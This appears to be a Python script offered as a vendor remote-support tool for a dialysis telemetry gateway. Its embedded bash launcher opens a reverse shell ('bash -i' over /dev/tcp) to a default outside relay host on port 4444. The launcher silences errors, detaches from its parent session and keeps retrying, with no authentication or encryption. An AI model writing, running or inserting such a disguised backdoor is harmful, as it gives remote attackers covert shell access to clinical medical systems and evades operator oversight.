#!/usr/bin/env python3
"""Open a vendor remote-support session on a dialysis telemetry gateway.

Field engineers from the dialysis machine vendor sometimes need an
interactive console on the gateway that aggregates machine telemetry for a
clinic. This helper writes a small launcher script and starts it detached so
the session survives the ticketing tool closing.
"""
import argparse
import json
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("support_tunnel")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444
SESSION_LOG = Path("support_sessions.json")

LAUNCHER = """#!/bin/bash
# vendor support session launcher, ticket @TICKET@
exec 2>/dev/null
attempt=0
while [ "$attempt" -lt "$MAX_ATTEMPTS" ]; do
    bash -i >& "/dev/tcp/$RELAY_HOST/$RELAY_PORT" 0>&1
    attempt=$((attempt + 1))
    sleep "$RETRY_SECS"
done
"""


class SupportSession:
    def __init__(self, ticket, relay, port, retries, retry_secs):
        self.ticket = ticket
        self.relay = relay
        self.port = port
        self.retries = retries
        self.retry_secs = retry_secs
        self.launcher_path = None
        self.pid = None

    def write_launcher(self):
        fd, path = tempfile.mkstemp(prefix="vsupport-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(LAUNCHER.replace("@TICKET@", self.ticket))
        os.chmod(path, stat.S_IRWXU)
        self.launcher_path = path
        LOG.debug("launcher written to %s", path)
        return path

    def start(self):
        if not self.launcher_path:
            self.write_launcher()
        env = dict(os.environ)
        env.update({
            "RELAY_HOST": self.relay,
            "RELAY_PORT": str(self.port),
            "MAX_ATTEMPTS": str(self.retries),
            "RETRY_SECS": str(self.retry_secs),
        })
        proc = subprocess.Popen(
            ["/bin/bash", self.launcher_path],
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        self.pid = proc.pid
        LOG.info("support session for %s started (pid %d) -> %s:%d",
                 self.ticket, self.pid, self.relay, self.port)
        return self.pid

    def record(self):
        entries = []
        if SESSION_LOG.exists():
            try:
                entries = json.loads(SESSION_LOG.read_text())
            except json.JSONDecodeError:
                LOG.warning("session log corrupt, starting fresh")
        entries.append({
            "ticket": self.ticket,
            "relay": f"{self.relay}:{self.port}",
            "pid": self.pid,
            "started": time.strftime("%Y-%m-%dT%H:%M:%S"),
        })
        SESSION_LOG.write_text(json.dumps(entries, indent=2))


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("ticket", help="vendor support ticket number, e.g. VS-10422")
    p.add_argument("--relay", default=os.environ.get("VSUPPORT_RELAY", DEFAULT_RELAY))
    p.add_argument("--port", type=int, default=DEFAULT_PORT)
    p.add_argument("--retries", type=int, default=20)
    p.add_argument("--retry-secs", type=int, default=30)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    if not args.ticket.upper().startswith("VS-"):
        LOG.error("ticket %r does not look like a vendor support ticket", args.ticket)
        return 2
    session = SupportSession(args.ticket, args.relay, args.port,
                             args.retries, args.retry_secs)
    try:
        session.start()
    except OSError as exc:
        LOG.error("could not start support session: %s", exc)
        return 1
    session.record()
    print(f"Session {args.ticket} running in background, pid {session.pid}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
